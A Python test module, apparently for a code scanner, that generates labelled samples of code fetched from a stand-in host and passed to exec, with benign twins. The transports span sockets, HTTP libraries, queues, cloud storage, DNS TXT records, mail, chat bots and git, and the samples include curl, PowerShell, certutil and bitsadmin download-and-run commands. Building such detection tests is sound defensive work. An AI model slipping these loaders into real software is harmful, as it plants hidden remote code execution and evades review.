"""Code that arrives by ways that are no plain web request: sockets, mail, queues, stores, callbacks."""

from __future__ import annotations

import re
from textwrap import dedent, indent

from pratique.verdict import Verdict
from tests.evasions.sample import MALICIOUS, SUSPICIOUS, Evasion, evasion

_HOST = "stage.example.invalid"
_URL = f"https://{_HOST}/a"
_WORD = re.compile(r"\b(?:URL|HOST)\b(?!\s*=)(?<!\.URL)")


def _gets(title: str, imports: str, expression: str, verdict: Verdict = MALICIOUS) -> Evasion:
    """``exec`` at import of what an expression receives; the twin receives it when asked to, and returns it."""
    bad = f"{imports}\nexec({expression.replace('URL', repr(_URL)).replace('HOST', repr(_HOST))})\n"
    good = f"{imports}\n\ndef get(place):\n    return {expression.replace('URL', 'place').replace('HOST', 'place')}\n"
    return evasion(title, bad, good, verdict)


def arriving(title: str, code: str, verdict: Verdict = MALICIOUS) -> Evasion:
    """Statements that execute what arrives; the twin does the same in a function and shows its length."""
    code = _WORD.sub(lambda m: repr(_URL if m[0] == "URL" else _HOST), dedent(code).lstrip("\n"))
    good = "def honest():\n" + indent(
        code.replace("exec(", "len(").replace("os.startfile(", "print(").replace("os.system('/tmp", "print('/tmp"),
        "    ",
    )
    return evasion(title, code, good, verdict)


CASES = (
    arriving(
        "socket, readinto a buffer of its file",
        """
        import socket
        s = socket.create_connection((HOST, 443))
        b = bytearray(4096)
        s.makefile('rb').readinto(b)
        exec(bytes(b).rstrip(b'\\0'))
        """,
    ),
    arriving(
        "socket, recv_into a view",
        """
        import socket
        s = socket.create_connection((HOST, 443))
        b = bytearray(65536)
        v = memoryview(b)
        n = s.recv_into(v)
        exec(bytes(v[:n]))
        """,
    ),
    arriving(
        "socket, recvmsg",
        """
        import socket
        s = socket.socket()
        s.connect((HOST, 443))
        data, anc, flags, addr = s.recvmsg(4096)
        exec(data.decode())
        """,
    ),
    arriving(
        "socket, recvfrom_into",
        """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((HOST, 53))
        buf = bytearray(512)
        n, who = s.recvfrom_into(buf)
        exec(buf[:n].decode())
        """,
    ),
    arriving(
        "socket, lines of its file",
        """
        import socket
        s = socket.create_connection((HOST, 443))
        for line in s.makefile('r'):
            exec(line)
        """,
    ),
    arriving(
        "socket, iter with a sentinel",
        """
        import functools, socket
        s = socket.create_connection((HOST, 443))
        exec(b''.join(iter(functools.partial(s.recv, 4096), b'')))
        """,
    ),
    arriving(
        "socket by os.read of its number",
        """
        import os, socket
        s = socket.create_connection((HOST, 443))
        exec(os.read(s.fileno(), 65536))
        """,
    ),
    arriving(
        "socket by os.fdopen of its number",
        """
        import os, socket
        s = socket.create_connection((HOST, 443))
        exec(os.fdopen(s.fileno(), 'rb').read())
        """,
    ),
    arriving(
        "socket, chosen by selectors",
        """
        import selectors, socket
        sel = selectors.DefaultSelector()
        s = socket.create_connection((HOST, 443))
        sel.register(s, selectors.EVENT_READ)
        for key, mask in sel.select():
            exec(key.fileobj.recv(4096))
        """,
    ),
    arriving(
        "socket, chosen by select",
        """
        import select, socket
        s = socket.create_connection((HOST, 443))
        r, w, x = select.select([s], [], [])
        exec(r[0].recv(4096))
        """,
    ),
    arriving(
        "socket, handed to a request handler",
        """
        import socketserver
        class H(socketserver.StreamRequestHandler):
            def handle(self):
                exec(self.rfile.readline())
        socketserver.TCPServer(('', 8000), H).serve_forever()
        """,
    ),
    arriving(
        "socket, handed to a base request handler",
        """
        import socketserver
        class H(socketserver.BaseRequestHandler):
            def handle(self):
                exec(self.request.recv(1024))
        with socketserver.TCPServer(('', 8000), H) as s:
            s.handle_request()
        """,
    ),
    arriving(
        "HTTP server's post body",
        """
        from http.server import BaseHTTPRequestHandler, HTTPServer
        class H(BaseHTTPRequestHandler):
            def do_POST(self):
                exec(self.rfile.read(int(self.headers['Content-Length'])))
        HTTPServer(('', 8000), H).serve_forever()
        """,
    ),
    arriving(
        "asyncio protocol",
        """
        import asyncio
        class P(asyncio.Protocol):
            def data_received(self, data):
                exec(data)
        async def main():
            loop = asyncio.get_running_loop()
            await loop.create_connection(P, HOST, 443)
        asyncio.run(main())
        """,
    ),
    arriving(
        "asyncio datagrams",
        """
        import asyncio
        class P(asyncio.DatagramProtocol):
            def datagram_received(self, data, addr):
                exec(data.decode())
        async def main():
            loop = asyncio.get_running_loop()
            await loop.create_datagram_endpoint(lambda: P(), remote_addr=(HOST, 53))
        asyncio.run(main())
        """,
    ),
    arriving(
        "asyncio streams, readline",
        """
        import asyncio
        async def main():
            reader, writer = await asyncio.open_connection(HOST, 443, ssl=True)
            writer.write(b'x')
            exec((await reader.readline()).decode())
        asyncio.get_event_loop().run_until_complete(main())
        """,
    ),
    arriving(
        "asyncio streams, readuntil by a server",
        """
        import asyncio
        async def serve(reader, writer):
            exec(await reader.readuntil(b'.'))
        async def main():
            server = await asyncio.start_server(serve, '', 8000)
            await server.serve_forever()
        asyncio.run(main())
        """,
    ),
    arriving(
        "asyncio loop, sock_recv",
        """
        import asyncio, socket
        async def main():
            loop = asyncio.get_running_loop()
            s = socket.socket()
            await loop.sock_connect(s, (HOST, 443))
            exec(await loop.sock_recv(s, 4096))
        asyncio.run(main())
        """,
    ),
    arriving(
        "asyncore dispatcher",
        """
        import asyncore
        class C(asyncore.dispatcher):
            def handle_read(self):
                exec(self.recv(8192))
        C().connect((HOST, 80))
        asyncore.loop()
        """,
    ),
    arriving(
        "twisted protocol",
        """
        from twisted.internet import reactor, protocol
        class P(protocol.Protocol):
            def dataReceived(self, data):
                exec(data)
        class F(protocol.ClientFactory):
            protocol = P
        reactor.connectTCP(HOST, 443, F())
        reactor.run()
        """,
    ),
    arriving(
        "twisted's agent by callbacks",
        """
        from twisted.internet import reactor
        from twisted.web.client import Agent, readBody
        d = Agent(reactor).request(b'GET', URL)
        d.addCallback(readBody)
        d.addCallback(exec)
        reactor.run()
        """,
    ),
    arriving(
        "twisted's getPage",
        """
        from twisted.web.client import getPage
        getPage(URL).addCallback(lambda body: exec(body))
        """,
    ),
    arriving(
        "treq",
        """
        import treq
        from twisted.internet.task import react
        async def main(reactor):
            r = await treq.get(URL)
            exec(await r.text())
        react(main)
        """,
    ),
    arriving(
        "tornado, asynchronous",
        """
        import asyncio
        from tornado.httpclient import AsyncHTTPClient
        async def main():
            r = await AsyncHTTPClient().fetch(URL)
            exec(r.body)
        asyncio.run(main())
        """,
    ),
    arriving(
        "tornado's TCP client",
        """
        import asyncio
        from tornado.tcpclient import TCPClient
        async def main():
            s = await TCPClient().connect(HOST, 443)
            exec(await s.read_until(b'.'))
        asyncio.run(main())
        """,
    ),
    _gets("trio", "import trio", "trio.run(trio.open_tcp_stream, HOST, 443).receive_some(4096)"),
    arriving(
        "anyio",
        """
        import anyio
        async def main():
            async with await anyio.connect_tcp(HOST, 443) as s:
                exec(await s.receive())
        anyio.run(main)
        """,
    ),
    _gets("gevent's socket", "from gevent import socket", "socket.create_connection((HOST, 443)).recv(4096)"),
    _gets("eventlet's urllib", "from eventlet.green.urllib import request", "request.urlopen(URL).read()"),
    arriving(
        "websocket-client's callback",
        """
        import websocket
        def on_message(ws, message):
            exec(message)
        websocket.WebSocketApp(URL, on_message=on_message).run_forever()
        """,
    ),
    arriving(
        "websockets by iteration",
        """
        import asyncio, websockets
        async def main():
            async for message in (await websockets.connect(URL)):
                exec(message)
        asyncio.run(main())
        """,
    ),
    arriving(
        "socket.io's event",
        """
        import socketio
        sio = socketio.Client()
        @sio.on('job')
        def job(data):
            exec(data['code'])
        sio.connect(URL)
        sio.wait()
        """,
    ),
    arriving(
        "MQTT callback",
        """
        import paho.mqtt.client as mqtt
        def on_message(client, userdata, msg):
            exec(msg.payload.decode())
        c = mqtt.Client()
        c.on_message = on_message
        c.connect(HOST)
        c.subscribe('a')
        c.loop_forever()
        """,
    ),
    arriving(
        "MQTT, one message",
        """
        import paho.mqtt.subscribe as subscribe
        exec(subscribe.simple('a', hostname=HOST).payload)
        """,
    ),
    arriving(
        "redis, published",
        """
        import redis
        p = redis.Redis(HOST).pubsub()
        p.subscribe('a')
        for m in p.listen():
            exec(m['data'])
        """,
    ),
    arriving(
        "rabbit callback",
        """
        import pika
        c = pika.BlockingConnection(pika.ConnectionParameters(HOST)).channel()
        def work(ch, method, props, body):
            exec(body)
        c.basic_consume(queue='a', on_message_callback=work)
        c.start_consuming()
        """,
    ),
    arriving(
        "kafka's records",
        """
        from kafka import KafkaConsumer
        for record in KafkaConsumer('a', bootstrap_servers=HOST):
            exec(record.value)
        """,
    ),
    arriving(
        "ZeroMQ multipart",
        """
        import zmq
        s = zmq.Context().socket(zmq.SUB)
        s.connect(URL)
        exec(s.recv_multipart()[1])
        """,
    ),
    arriving(
        "NATS",
        """
        import asyncio, nats
        async def main():
            nc = await nats.connect(HOST)
            sub = await nc.subscribe('a')
            msg = await sub.next_msg()
            exec(msg.data)
        asyncio.run(main())
        """,
    ),
    arriving(
        "queue of a cloud",
        """
        import boto3
        q = boto3.client('sqs').receive_message(QueueUrl=URL)
        exec(q['Messages'][0]['Body'])
        """,
    ),
    arriving(
        "bucket's object into a buffer",
        """
        import boto3, io
        b = io.BytesIO()
        boto3.client('s3').download_fileobj('b', 'k', b)
        exec(b.getvalue())
        """,
    ),
    arriving(
        "bucket's object by resource",
        """
        import boto3
        exec(boto3.resource('s3').Object('b', 'k').get()['Body'].read().decode())
        """,
    ),
    arriving(
        "bucket's object to a file, started",
        """
        import boto3, os
        boto3.client('s3').download_file('b', 'k', '/tmp/k')
        os.system('/tmp/k')
        """,
    ),
    _gets("minio", "from minio import Minio", "Minio(HOST).get_object('b', 'k').data"),
    _gets(
        "bucket of Google",
        "from google.cloud import storage",
        "storage.Client().bucket('b').blob('k').download_as_text()",
    ),
    _gets(
        "blob of Azure",
        "from azure.storage.blob import BlobClient",
        "BlobClient.from_blob_url(URL).download_blob().readall()",
    ),
    _gets("firebase", "from firebase_admin import db", "db.reference('a', url=URL).get()"),
    _gets(
        "SQL server", "import psycopg2", "psycopg2.connect(host=HOST).cursor().execute('select a from b').fetchone()[0]"
    ),
    arriving(
        "SQL server, cursor kept",
        """
        import pymysql
        cur = pymysql.connect(host=HOST).cursor()
        cur.execute('select code from t')
        exec(cur.fetchone()[0])
        """,
    ),
    _gets(
        "elasticsearch",
        "from elasticsearch import Elasticsearch",
        "Elasticsearch(URL).get(index='a', id=1)['_source']['c']",
    ),
    _gets("etcd", "import etcd3", "etcd3.client(host=HOST).get('a')[0]"),
    _gets("LDAP", "import ldap3", "ldap3.Connection(HOST, auto_bind=True).search('a', 'b')[0]['description']"),
    _gets("SSH stdout", "import paramiko\nc = paramiko.SSHClient()", "c.exec_command('a')[1].read().decode()"),
    _gets(
        "SFTP file",
        "import paramiko",
        "paramiko.SFTPClient.from_transport(paramiko.Transport((HOST, 22))).open('a').read()",
    ),
    arriving(
        "fabric's result",
        """
        from fabric import Connection
        exec(Connection(HOST).run('cat a').stdout)
        """,
    ),
    arriving(
        "asyncssh",
        """
        import asyncio, asyncssh
        async def main():
            async with asyncssh.connect(HOST) as c:
                exec((await c.run('cat a')).stdout)
        asyncio.run(main())
        """,
    ),
    arriving(
        "IMAP, parsed by email",
        """
        import email, imaplib
        m = imaplib.IMAP4_SSL(HOST)
        m.select()
        t, d = m.fetch(b'1', '(RFC822)')
        exec(email.message_from_bytes(d[0][1]).get_payload(decode=True))
        """,
    ),
    arriving(
        "POP, joined lines",
        """
        import poplib
        r, lines, n = poplib.POP3_SSL(HOST).retr(1)
        exec(b'\\n'.join(lines))
        """,
    ),
    _gets("NNTP", "import nntplib", "nntplib.NNTP(HOST).article('a')[1].lines[9]"),
    arriving(
        "telnet",
        """
        import telnetlib
        t = telnetlib.Telnet(HOST)
        exec(t.expect([b'.'])[2])
        """,
    ),
    arriving(
        "FTP by transfercmd",
        """
        import ftplib
        f = ftplib.FTP(HOST)
        exec(f.transfercmd('RETR a').recv(65536))
        """,
    ),
    arriving(
        "FTP's listing",
        """
        import ftplib
        exec(bytes.fromhex(ftplib.FTP(HOST).nlst()[0]))
        """,
    ),
    arriving(
        "FTP into a buffer",
        """
        import ftplib, io
        b = io.BytesIO()
        ftplib.FTP(HOST).retrbinary('RETR a', b.write)
        exec(b.getvalue())
        """,
    ),
    arriving(
        "FTP greeting",
        """
        import ftplib
        exec(ftplib.FTP(HOST).getwelcome()[4:])
        """,
    ),
    arriving(
        "SMTP banner",
        """
        import smtplib
        exec(smtplib.SMTP(HOST).ehlo()[1])
        """,
    ),
    _gets(
        "DNS through dnspython's message",
        "import dns.message, dns.query",
        "dns.query.udp(dns.message.make_query('a', 'TXT'), HOST).answer[0][0].strings[0]",
    ),
    _gets("DNS text strings", "import dns.resolver", "b''.join(dns.resolver.resolve(HOST, 'TXT')[0].strings)"),
    arriving(
        "DNS text, own resolver, loop",
        """
        import dns.resolver
        r = dns.resolver.Resolver()
        code = ''
        for rr in r.resolve(HOST, 'TXT'):
            code += rr.to_text().strip('"')
        exec(code)
        """,
    ),
    arriving(
        "DNS asynchronous",
        """
        import asyncio, aiodns
        async def main():
            exec((await aiodns.DNSResolver().query(HOST, 'TXT'))[0].text)
        asyncio.run(main())
        """,
    ),
    arriving(
        "names that addresses lead to",
        """
        import socket
        exec(socket.gethostbyaddr('192.0.2.7')[0])
        """,
    ),
    arriving(
        "certificate's subject",
        """
        import socket, ssl
        s = ssl.create_default_context().wrap_socket(socket.create_connection((HOST, 443)), server_hostname=HOST)
        exec(s.getpeercert()['subject'][0][0][1])
        """,
    ),
    _gets("certificate as text", "import ssl", "ssl.get_server_certificate((HOST, 443))"),
    arriving(
        "TLS by wrap_socket alone",
        """
        import socket, ssl
        s = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_socket(socket.create_connection((HOST, 443)))
        exec(s.read(4096))
        """,
    ),
    arriving(
        "TLS in memory",
        """
        import socket, ssl
        i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
        t = ssl.create_default_context().wrap_bio(i, o)
        i.write(socket.create_connection((HOST, 443)).recv(4096))
        exec(t.read())
        """,
    ),
    _gets("HTTP header", "import urllib.request", "urllib.request.urlopen(URL).headers['X-A']"),
    _gets("HTTP reason", "import urllib.request", "urllib.request.urlopen(URL).reason"),
    arriving(
        "HTTP error's body",
        """
        import urllib.request, urllib.error
        try:
            urllib.request.urlopen(URL)
        except urllib.error.HTTPError as e:
            exec(e.read())
        """,
    ),
    arriving(
        "HTTP status as letters",
        """
        import requests
        exec(''.join(chr(requests.get(URL + str(i)).status_code - 200) for i in range(9)))
        """,
    ),
    arriving(
        "HTTP address after a redirect",
        """
        import requests, urllib.parse
        exec(urllib.parse.unquote(requests.get(URL).url))
        """,
    ),
    arriving(
        "HTTP response hook",
        """
        import requests
        requests.get(URL, hooks={'response': lambda r, *a, **k: exec(r.text)})
        """,
    ),
    arriving(
        "HTTP by an own adapter of a handler",
        """
        import urllib.request
        class H(urllib.request.BaseHandler):
            def http_response(self, req, response):
                exec(response.read())
                return response
            https_response = http_response
        urllib.request.build_opener(H).open(URL)
        """,
    ),
    arriving(
        "HTTP readinto",
        """
        import http.client
        c = http.client.HTTPSConnection(HOST)
        c.request('GET', '/a')
        b = bytearray(4096)
        c.getresponse().readinto(b)
        exec(b)
        """,
    ),
    arriving(
        "urllib.request of install_opener",
        """
        import urllib.request as u
        u.install_opener(u.build_opener(u.ProxyHandler({})))
        with u.urlopen(u.Request(URL)) as r:
            exec(''.join(line.decode() for line in r))
        """,
    ),
    arriving(
        "requests, streamed lines decoded",
        """
        import requests
        with requests.get(URL, stream=True) as r:
            for line in r.iter_lines(decode_unicode=True):
                exec(line)
        """,
    ),
    arriving(
        "requests, copyfileobj of raw",
        """
        import io, requests, shutil
        b = io.BytesIO()
        shutil.copyfileobj(requests.get(URL, stream=True).raw, b)
        exec(b.getvalue())
        """,
    ),
    arriving(
        "httpx stream",
        """
        import httpx
        with httpx.stream('GET', URL) as r:
            exec(b''.join(r.iter_bytes()))
        """,
    ),
    arriving(
        "aiohttp content chunks",
        """
        import aiohttp, asyncio
        async def main():
            async with aiohttp.request('GET', URL) as r:
                async for chunk, end in r.content.iter_chunks():
                    exec(chunk)
        asyncio.run(main())
        """,
    ),
    arriving(
        "pycurl write function",
        """
        import pycurl
        parts = []
        c = pycurl.Curl()
        c.setopt(pycurl.URL, URL)
        c.setopt(pycurl.WRITEFUNCTION, parts.append)
        c.perform()
        exec(b''.join(parts))
        """,
    ),
    arriving(
        "pycurl exec as write function",
        """
        import pycurl
        c = pycurl.Curl()
        c.setopt(c.URL, URL)
        c.setopt(c.WRITEFUNCTION, exec)
        c.perform()
        """,
    ),
    arriving(
        "pycurl perform_rs",
        """
        import pycurl
        c = pycurl.Curl()
        c.setopt(c.URL, URL)
        exec(c.perform_rs())
        """,
    ),
    _gets("pandas HTML", "import pandas as pd", "pd.read_html(URL)[0].iloc[0, 0]"),
    _gets("pandas JSON", "import pandas as pd", "pd.read_json(URL)['c'][0]"),
    _gets("polars", "import polars", "polars.read_csv(URL)['c'][0]"),
    _gets("numpy", "import numpy as np", "np.genfromtxt(URL, dtype=str)[0]"),
    _gets("lxml", "import lxml.html", "lxml.html.parse(URL).getroot().text_content()"),
    _gets("lxml etree", "from lxml import etree", "etree.parse(URL).find('c').text"),
    _gets("feedparser", "import feedparser", "feedparser.parse(URL).entries[0].summary"),
    _gets("BeautifulSoup", "import bs4, requests", "bs4.BeautifulSoup(requests.get(URL).text).find('pre').text"),
    _gets(
        "xml.dom",
        "from urllib.request import urlopen\nfrom xml.dom import minidom",
        "minidom.parse(urlopen(URL)).documentElement.firstChild.data",
    ),
    arriving(
        "selenium",
        """
        from selenium import webdriver
        d = webdriver.Firefox()
        d.get(URL)
        exec(d.find_element('tag name', 'pre').text)
        """,
    ),
    arriving(
        "selenium page source",
        """
        from selenium import webdriver
        d = webdriver.Chrome()
        d.get(URL)
        exec(d.page_source)
        """,
    ),
    arriving(
        "playwright",
        """
        from playwright.sync_api import sync_playwright
        with sync_playwright() as p:
            page = p.chromium.launch().new_page()
            page.goto(URL)
            exec(page.inner_text('pre'))
        """,
    ),
    _gets("scapy", "from scapy.all import sniff", "sniff(count=1)[0].load"),
    arriving(
        "scapy callback",
        """
        from scapy.all import sniff
        sniff(filter='udp', prn=lambda p: exec(p.load))
        """,
    ),
    arriving(
        "GitPython",
        """
        import git, runpy
        git.Repo.clone_from(URL, '/tmp/r')
        exec(open('/tmp/r/a.py').read())
        """,
    ),
    arriving(
        "dulwich",
        """
        from dulwich import porcelain
        porcelain.clone(URL, '/tmp/r')
        exec(open('/tmp/r/a.py').read())
        """,
    ),
    _gets("gist by PyGithub", "from github import Github", "Github().get_gist('a').files['a'].content"),
    _gets(
        "file by PyGithub", "from github import Github", "Github().get_repo('a/b').get_contents('c').decoded_content"
    ),
    _gets("gitlab", "import gitlab", "gitlab.Gitlab(URL).projects.get(1).files.get('a', 'main').decode()"),
    arriving(
        "telegram's handler",
        """
        from telegram.ext import Application, MessageHandler, filters
        async def h(update, context):
            exec(update.message.text)
        app = Application.builder().token('1:a').build()
        app.add_handler(MessageHandler(filters.TEXT, h))
        app.run_polling()
        """,
    ),
    arriving(
        "discord's event",
        """
        import discord
        client = discord.Client(intents=None)
        @client.event
        async def on_message(message):
            exec(message.content)
        client.run('a')
        """,
    ),
    _gets(
        "slack's history",
        "from slack_sdk import WebClient",
        "WebClient(token='a').conversations_history(channel='c')['messages'][0]['text']",
    ),
    _gets("reddit", "import praw", "praw.Reddit('a').submission('b').selftext"),
    _gets("wiki page", "import wikipedia", "wikipedia.page('a').content"),
    _gets("spreadsheet", "import gspread", "gspread.service_account().open_by_url(URL).sheet1.acell('A1').value"),
    _gets("translator", "import tweepy", "tweepy.Client('a').get_tweet(1).data['text']"),
    _gets(
        "hub of models", "from huggingface_hub import hf_hub_download", "open(hf_hub_download('a/b', 'c.py')).read()"
    ),
    _gets(
        "urllib robots",
        "import urllib.robotparser\np = urllib.robotparser.RobotFileParser()",
        "p.read() or str(__import__('urllib.request').request.urlopen(URL).read())",
    ),
    _gets(
        "WinHttp by COM",
        "import win32com.client as w\nh = w.Dispatch('WinHttp.WinHttpRequest.5.1')\nh.Open('GET', 'https://stage.example.invalid/a')\nh.Send()",
        "h.ResponseText",
    ),
    arriving(
        "WinINet by ctypes",
        """
        import ctypes
        w = ctypes.windll.wininet
        h = w.InternetOpenUrlW(w.InternetOpenW('', 0, None, None, 0), URL, None, 0, 0, 0)
        b = ctypes.create_string_buffer(4096)
        w.InternetReadFile(h, b, 4096, ctypes.byref(ctypes.c_ulong()))
        exec(b.value)
        """,
    ),
    arriving(
        "socket of C's library",
        """
        import ctypes
        c = ctypes.CDLL(None)
        s = c.socket(2, 1, 0)
        c.connect(s, b'a', 16)
        b = ctypes.create_string_buffer(4096)
        c.recv(s, b, 4096, 0)
        exec(b.raw)
        """,
    ),
    arriving(
        "URLDownloadToFile into open",
        """
        import ctypes
        ctypes.windll.urlmon.URLDownloadToFileW(None, URL, 'C:/a.txt', 0, None)
        exec(open('C:/a.txt').read())
        """,
    ),
    arriving(
        "output of curl",
        """
        import subprocess
        exec(subprocess.run(['curl', '-s', URL], capture_output=True, text=True).stdout)
        """,
    ),
    arriving(
        "output of wget through a pipe",
        """
        import os
        exec(os.popen('wget -qO- ' + URL).read())
        """,
    ),
    arriving(
        "output of PowerShell",
        """
        import subprocess
        p = subprocess.Popen(['powershell', '-c', '(New-Object Net.WebClient).DownloadString("' + URL + '")'], stdout=subprocess.PIPE)
        out, err = p.communicate()
        exec(out)
        """,
    ),
    arriving(
        "certutil, then read",
        """
        import os
        os.system('certutil -urlcache -split -f ' + URL + ' C:/a.txt')
        exec(open('C:/a.txt').read())
        """,
    ),
    arriving(
        "bitsadmin, then started",
        """
        import os
        os.system('bitsadmin /transfer a ' + URL + ' C:/a.exe')
        os.startfile('C:/a.exe')
        """,
    ),
    arriving(
        "asyncio's process of curl",
        """
        import asyncio
        async def main():
            p = await asyncio.create_subprocess_exec('curl', URL, stdout=-1)
            out, err = await p.communicate()
            exec(out)
        asyncio.run(main())
        """,
    ),
    arriving(
        "dig",
        """
        import subprocess
        exec(subprocess.check_output(['dig', '+short', 'TXT', HOST]).decode().strip('"'))
        """,
        SUSPICIOUS,
    ),
    arriving(
        "nslookup",
        """
        import os
        exec(os.popen('nslookup -q=txt ' + HOST).read().split('"')[1])
        """,
        SUSPICIOUS,
    ),
    arriving(
        "logging's configuration server",
        """
        import logging.config
        logging.config.listen(9030, verify=exec).start()
        """,
        SUSPICIOUS,
    ),
    arriving(
        "remote manager",
        """
        from multiprocessing.managers import BaseManager
        class M(BaseManager):
            pass
        M.register('code')
        m = M(address=(HOST, 1), authkey=b'a')
        m.connect()
        exec(m.code())
        """,
    ),
    arriving(
        "RPyC",
        """
        import rpyc
        exec(rpyc.connect(HOST, 1).root.code())
        """,
    ),
    arriving(
        "Pyro",
        """
        import Pyro5.api
        exec(Pyro5.api.Proxy('PYRO:a@' + HOST).code())
        """,
    ),
    arriving(
        "gRPC",
        """
        import grpc
        f = grpc.insecure_channel(HOST).unary_unary('/a/b')
        exec(f(b''))
        """,
    ),
    _gets("SOAP", "import suds.client", "suds.client.Client(URL).service.code()"),
    _gets("zeep", "import zeep", "zeep.Client(URL).service.code()"),
    _gets(
        "GraphQL",
        "from gql import Client, gql\nfrom gql.transport.requests import RequestsHTTPTransport as T",
        "Client(transport=T(url=URL)).execute(gql('{a}'))['a']",
    ),
    _gets("Windows share", "import smbclient", "smbclient.open_file(r'\\\\stage.example.invalid\\a').read()"),
    _gets("file on a share", "import os", "open(r'\\\\stage.example.invalid\\s\\a.txt').read()", SUSPICIOUS),
    _gets("WebDAV", "from webdav3.client import Client", "Client({'webdav_hostname': URL}).resource('a').read()"),
    _gets(
        "torrent's metadata",
        "import libtorrent",
        "libtorrent.session().add_torrent({'url': URL}).torrent_file().comment()",
    ),
    _gets("IPFS", "import ipfshttpclient", "ipfshttpclient.connect(URL).cat('a')"),
    _gets(
        "contract's state",
        "from web3 import Web3",
        "Web3(Web3.HTTPProvider(URL)).eth.contract(address='a', abi=[]).functions.get().call()",
    ),
    _gets(
        "solana memo",
        "from solana.rpc.api import Client",
        "Client(URL).get_transaction('a').value.transaction.meta.log_messages[0]",
    ),
    _gets("time server", "import ntplib", "ntplib.NTPClient().request(HOST).ref_id"),
    _gets("whois", "import whois", "whois.whois(HOST).text"),
    _gets("serial over TCP", "import serial", "serial.serial_for_url(URL).read(4096)"),
)
